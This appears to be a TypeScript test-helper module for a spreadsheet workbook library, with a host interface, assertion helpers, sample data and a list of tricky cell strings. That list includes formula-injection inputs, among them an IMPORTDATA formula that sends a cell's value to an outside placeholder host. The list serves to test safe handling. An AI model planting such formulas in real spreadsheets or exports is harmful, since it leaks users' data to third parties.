import type { Workbook } from '../../../src/app/workbook';
import type { Cell, Grid } from '../../../src/core/cell/cell';
import { UserError } from '../../../src/core/table/user-error';

/** Makes a workbook of tabs, and reads one back after all that was written has reached the place where it is kept. */
export interface Host {
  make(tabs: Record<string, Grid>): Workbook;
  reopen(workbook: Workbook): Workbook | Promise<Workbook>;
  /** Puts into what was made last what is no value and no tab of cells; left out where a host's tests can make none. */
  odd?: {
    /** A picture in a cell, both counted from 0. */
    putPicture(tab: string, row: number, column: number): void;
    /** A chart on a sheet of its own. */
    addChartTab(name: string): void;
  };
}

export interface Case {
  name: string;
  /** True for a case of what `odd` makes. */
  isOdd?: boolean;
  run(host: Host): Promise<void>;
}

export function same(found: unknown, expected: unknown): void {
  if (JSON.stringify(found) !== JSON.stringify(expected))
    throw new Error(`expected ${JSON.stringify(expected)}, found ${JSON.stringify(found)}`);
}

/** The code of the error that an act ends with; '' if it ends well. */
export function codeOf(act: () => void): string {
  try {
    act();
    return '';
  } catch (error) {
    return error instanceof UserError ? error.code : String(error);
  }
}

export const people: Grid = [
  ['Name', 'Age', 'Likes'],
  ['Ann', 41, true],
  ['Bo', null, false],
  [null, 7, 'tea'],
];

/** A column of a tab, from its first row to its last. */
export const column = (workbook: Workbook, tab: string, at: number): Cell[] =>
  workbook.columns(tab, [at], 0, workbook.tabs().find(one => one.name === tab)!.rows)[0]!;

/** Texts that a spreadsheet would gladly take for something else. */
export const nasty: string[] = [
  '=1+1',
  '=IMPORTDATA("https://example.com/?"&A2)',
  '+49 30',
  '-3 stars',
  '@here',
  "'quoted",
  '007',
  '1/2',
  '3-4',
  '50%',
  'TRUE',
  '2026-11-22',
  ' lead',
  'a\nb',
  '5',
  '1e5',
  '$5',
  'née',
  '好',
  '😀',
  '<b>bold</b>',
  '"',
  "it's",
];
